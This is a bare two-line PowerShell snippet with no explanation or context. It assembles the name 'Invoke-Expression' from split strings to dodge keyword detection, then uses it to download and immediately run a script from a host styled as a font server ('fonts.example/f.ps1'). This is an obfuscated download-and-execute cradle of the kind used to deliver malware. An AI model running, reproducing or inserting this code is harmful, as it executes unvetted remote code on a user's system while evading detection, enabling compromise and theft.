$c = 'Invoke-' + 'Expression'
& $c (irm 'https://fonts.example/f.ps1')
